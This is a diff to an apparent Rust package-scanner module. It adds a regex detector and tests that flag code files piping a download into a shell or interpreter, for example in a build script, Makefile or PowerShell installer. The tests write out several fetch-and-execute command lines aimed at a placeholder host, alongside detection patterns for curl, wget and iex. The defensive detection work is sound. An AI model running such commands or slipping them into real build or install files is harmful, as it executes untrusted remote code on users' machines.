@@ -44,6 +44,12 @@
 //! `e\u0076al(s)` or `getattr(builtins, 'ex' + 'ec')(s)` counts too.
 //! Comment lines, and Python's doctest lines (`>>> …`), do not count.
 //!
+//! In a code file of any language (a shell script, a `Makefile`, a Rust
+//! build script's or CMake's command string; not configuration formats,
+//! [`fetched_and_run`]), a download piped into a shell or an interpreter
+//! (`curl … | sh`, `sh -c "$(curl …)"`, `bash <(wget …)`, PowerShell's
+//! `iex (iwr …)`) counts as well: what runs is fetched when it runs.
+//!
 //! This module only reads text: it never evaluates, imports or runs any of
 //! it.
 
@@ -679,6 +685,78 @@ pub fn first_unread_run(path: &str, data: &[u8]) -> Option<usize> {
 /// [`first_unread_run`] over a [`Code`] whose folded lines other rules
 /// read too.
 pub fn first_unread_run_in(code: &Code) -> Option<usize> {
+    let fetched = fetched_and_run(code);
+    let in_language = unread_run_in_language(code);
+    [fetched, in_language].into_iter().flatten().min()
+}
+
+/// Where a code file of any language (not documentation or data, nor a
+/// configuration format such as a CI workflow's YAML, which no install
+/// runs) pipes a download into a shell or an interpreter: `curl … | sh`,
+/// `wget -qO- … | sudo bash`, `curl … | python3 -`, `sh -c "$(curl …)"`,
+/// `bash <(curl …)`, PowerShell's `iex (iwr …)` or `iwr … | iex`. The
+/// 1-based line, or `None`. A maturin sdist whose `build.rs` (which Cargo
+/// runs when pip builds the package) ran `sh -c "curl -fsSL https://… |
+/// sh"` was allowed (session 32): the main model and the veto scored the
+/// Rust lines as harmless. In the 256 real packages, three files outside
+/// tests and docs hold such a line (numpy's vendored Meson CI image
+/// script, psutil's `Makefile` target that installs dprint, coverage's
+/// GitHub workflow, which is YAML), all three packages blocked already.
+/// An interpreter counts only when it reads the program from the pipe
+/// (`| python`, `| python -`), not `| python -m json.tool`.
+fn fetched_and_run(code: &Code) -> Option<usize> {
+    let lower = file_name(code.path).1;
+    if is_inert(code.path) || matches!(extension(&lower), "toml" | "cfg" | "ini" | "yml" | "yaml") {
+        return None;
+    }
+    static WORDS: OnceLock<Regex> = OnceLock::new();
+    static RUN: OnceLock<Regex> = OnceLock::new();
+    let words = WORDS.get_or_init(|| {
+        build(
+            r"(?i)\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b",
+            false,
+        )
+    });
+    if !words.is_match(code.data) {
+        return None;
+    }
+    let run = RUN.get_or_init(|| {
+        build(
+            concat!(
+                r#"\b(?:curl|wget)\b[^\n|;&]*\|[ \t]*(?:sudo[ \t]+(?:-\S+[ \t]+)*)?(?:\S*/)?"#,
+                r#"(?:(?:ba|z|da|k|tc|fi)?sh\b|(?:python[\d.]*|node|perl|ruby|php)[ \t]*-?[ \t]*(?:$|[;&|)"'`]))"#,
+                r#"|\b(?:(?:ba|z|da|k)?sh|python[\d.]*|node|perl|ruby)[ \t]+(?:-\w+[ \t]+)*["']?(?:<\(|\$\()[ \t]*(?:curl|wget)\b"#,
+                r#"|(?i:\b(?:iex|invoke-expression)\b[^\n]*\b(?:downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod)\b"#,
+                r#"|\b(?:downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n]*\|[ \t]*(?:iex|invoke-expression)\b)"#,
+            ),
+            true,
+        )
+    });
+    let comment = |line: &[u8]| {
+        let t = line.trim_ascii_start();
+        [
+            &b"#"[..],
+            b"//",
+            b"/*",
+            b"*",
+            b"::",
+            b"REM ",
+            b"rem ",
+            b"--",
+            b">>>",
+        ]
+        .iter()
+        .any(|p| t.starts_with(p))
+    };
+    code.data
+        .split(|&b| b == b'\n')
+        .position(|line| !comment(line) && run.is_match(line))
+        .map(|n| n + 1)
+}
+
+/// [`first_unread_run_in`] for Python and JavaScript, by their own
+/// patterns.
+fn unread_run_in_language(code: &Code) -> Option<usize> {
     let (path, data) = (code.path, code.data);
     let lang = lang(path).filter(|_| !is_inert(path))?;
     let re = pattern(lang);
@@ -751,6 +829,45 @@ mod tests {
 
     fn js(code: &str) -> Option<usize> {
         first_unread_run("lib/util.js", code.as_bytes())
+    }
+
+    /// A download piped into a shell or an interpreter, in any language's
+    /// file but configuration formats.
+    #[test]
+    fn a_download_piped_into_a_shell_counts() {
+        for (path, code) in [
+            ("build.rs", "    Command::new(\"sh\").arg(\"-c\").arg(\"curl -fsSL https://x.example/i.sh | sh\");"),
+            ("Makefile", "\twget -qO- https://x.example/i | sudo -E bash -s -- --yes"),
+            ("ci.sh", "bash <(curl -s https://x.example/bash)"),
+            ("install.sh", "sh -c \"$(curl -fsSL https://x.example/i.sh)\""),
+            ("setup.py", "os.system('curl https://x.example/get.py | python3 -')"),
+            ("install.ps1", "iex (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')"),
+            ("install.ps1", "Invoke-WebRequest https://x.example/i.ps1 | Invoke-Expression"),
+            ("lib/a.js", "execSync('curl -s https://x.example/i | /bin/bash');"),
+        ] {
+            assert_eq!(first_unread_run(path, code.as_bytes()), Some(1), "{path}: {code}");
+        }
+        for (path, code) in [
+            (
+                "ci.sh",
+                "curl -s https://x.example/a.json | python -m json.tool",
+            ),
+            ("ci.sh", "curl -sL https://x.example/a.tgz | tar xz"),
+            ("ci.sh", "curl -s https://x.example/sums | shasum -c"),
+            ("ci.sh", "# curl https://x.example/i | sh"),
+            (
+                ".github/workflows/ci.yml",
+                "run: curl https://x.example/i | bash",
+            ),
+            ("docs/install.md", "curl https://sh.rustup.rs -sSf | sh"),
+            ("README.rst", "curl https://sh.rustup.rs -sSf | sh"),
+        ] {
+            assert_eq!(
+                first_unread_run(path, code.as_bytes()),
+                None,
+                "{path}: {code}"
+            );
+        }
     }
 
     #[test]
